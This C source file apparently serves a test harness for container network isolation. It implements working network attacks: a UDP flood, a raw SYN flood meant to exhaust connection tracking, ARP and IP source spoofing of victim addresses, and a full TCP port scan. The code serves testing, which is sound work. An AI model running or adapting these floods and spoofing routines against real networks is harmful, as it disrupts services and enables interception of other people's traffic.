/* What a hostile program in a task does to the network, for attacks.py: `attack WHAT SECONDS ADDRESS…`.
 * It needs no more than the capabilities that every container has. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static uint32_t next(void) {
    static uint32_t x = 2463534242u;
    x ^= x << 13;
    x ^= x >> 17;
    return x ^= x << 5;
}

static struct sockaddr_in at(uint32_t address, uint16_t port) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    to.sin_addr.s_addr = address;
    return to;
}

static uint16_t sum(const void *data, size_t bytes, uint32_t begin) {
    const uint16_t *words = data;
    for (size_t i = 0; i < bytes / 2; i++) begin += words[i];
    while (begin >> 16) begin = (begin & 0xffff) + (begin >> 16);
    return (uint16_t)~begin;
}

/* Small packets to every port, as many as go. */
static long flood(double until, uint32_t *to, int count) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    char data[18] = {0};
    long sent = 0;
    while (sent % 256 || now() < until) {
        struct sockaddr_in a = at(to[sent % count], 1 + next() % 65535);
        sendto(s, data, sizeof data, MSG_DONTWAIT, (struct sockaddr *)&a, sizeof a);
        sent++;
    }
    return sent;
}

/* A first packet of a connection from each port to each of many addresses: each is one to be tracked. */
static long connections(double until, uint32_t own) {
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    struct { struct iphdr ip; struct tcphdr tcp; } p;
    struct { uint32_t from, to; uint8_t zero, protocol; uint16_t length; } pseudo;
    long sent = 0;
    while (sent % 256 || now() < until) {
        memset(&p, 0, sizeof p);
        p.ip.version = 4; p.ip.ihl = 5; p.ip.ttl = 64; p.ip.protocol = IPPROTO_TCP;
        p.ip.tot_len = htons(sizeof p);
        p.ip.saddr = own; p.ip.daddr = htonl(0xc6120000u + next() % 131072); /* 198.18.0.0/15 */
        p.tcp.source = htons(1024 + next() % 64000); p.tcp.dest = htons(1 + next() % 65535);
        p.tcp.seq = next(); p.tcp.doff = 5; p.tcp.syn = 1; p.tcp.window = htons(1024);
        pseudo.from = p.ip.saddr; pseudo.to = p.ip.daddr; pseudo.zero = 0;
        pseudo.protocol = IPPROTO_TCP; pseudo.length = htons(sizeof p.tcp);
        uint16_t half = (uint16_t)~sum(&pseudo, sizeof pseudo, 0);
        p.tcp.check = sum(&p.tcp, sizeof p.tcp, half);
        struct sockaddr_in a = at(p.ip.daddr, 0);
        sendto(s, &p, sizeof p, MSG_DONTWAIT, (struct sockaddr *)&a, sizeof a);
        sent++;
    }
    return sent;
}

/* Answers to ARP questions that nobody asked, hardware addresses of others, addresses of others. */
static long spoof(double until, uint32_t *victims, int count) {
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    struct ifreq request = {0};
    strcpy(request.ifr_name, "eth0");
    ioctl(s, SIOCGIFINDEX, &request);
    struct sockaddr_ll a = {.sll_family = AF_PACKET, .sll_ifindex = request.ifr_ifindex, .sll_halen = 6};
    ioctl(s, SIOCGIFHWADDR, &request);
    const uint8_t *own = (uint8_t *)request.ifr_hwaddr.sa_data;
    const uint8_t router[6] = {0x02, 0xbe, 0, 0, 0, 1}, all[6] = {255, 255, 255, 255, 255, 255};
    long sent = 0;
    while (sent % 256 || now() < until) {
        uint32_t victim = victims[sent % count];
        uint8_t f[60] = {0};
        int kind = next() % 3;
        memcpy(f, kind == 0 ? all : router, 6);
        memcpy(f + 6, own, 6);
        if (kind == 2) for (int i = 1; i < 6; i++) f[6 + i] = next();
        if (kind == 0) { /* "The victim is here." */
            const uint8_t head[10] = {8, 6, 0, 1, 8, 0, 6, 4, 0, 2};
            memcpy(f + 12, head, 10);
            memcpy(f + 22, own, 6); memcpy(f + 28, &victim, 4);
            memcpy(f + 32, all, 6); memcpy(f + 38, &victim, 4);
        } else { /* Something from the victim's address, to another. */
            f[12] = 8;
            struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = 17};
            ip.tot_len = htons(46); ip.saddr = victim; ip.daddr = victims[next() % count];
            ip.check = sum(&ip, sizeof ip, 0);
            memcpy(f + 14, &ip, sizeof ip);
        }
        sendto(s, f, sizeof f, MSG_DONTWAIT, (struct sockaddr *)&a, sizeof a);
        sent++;
    }
    return sent;
}

/* Every port of each address; how many took a connection, beside port 80 of others. */
static long scan(double until, uint32_t *to, int count) {
    enum { AT_ONCE = 256 };
    long open = 0;
    for (int i = 0; i < count; i++)
        for (int first = 1; first < 65536 && now() < until; first += AT_ONCE) {
            struct pollfd waiting[AT_ONCE];
            int n = 0;
            for (int port = first; port < first + AT_ONCE && port < 65536; port++) {
                int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
                struct sockaddr_in a = at(to[i], port);
                if (s < 0) continue;
                connect(s, (struct sockaddr *)&a, sizeof a);
                waiting[n++] = (struct pollfd){.fd = s, .events = POLLOUT};
            }
            usleep(20000);
            poll(waiting, n, 0);
            for (int k = 0; k < n; k++) {
                int error = 1;
                socklen_t size = sizeof error;
                if (waiting[k].revents & POLLOUT) getsockopt(waiting[k].fd, SOL_SOCKET, SO_ERROR, &error, &size);
                open += error == 0;
                close(waiting[k].fd);
            }
        }
    return open;
}

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    double until = now() + atof(argv[2]);
    uint32_t to[16];
    int count = 0;
    for (int i = 3; i < argc && count < 16; i++) to[count++] = inet_addr(argv[i]);
    long done = -1;
    if (!strcmp(argv[1], "flood")) done = flood(until, to, count);
    if (!strcmp(argv[1], "connections")) done = connections(until, to[0]);
    if (!strcmp(argv[1], "spoof")) done = spoof(until, to, count);
    if (!strcmp(argv[1], "scan")) done = scan(until, to, count);
    printf("%s %ld\n", argv[1], done);
    return done < 0;
}
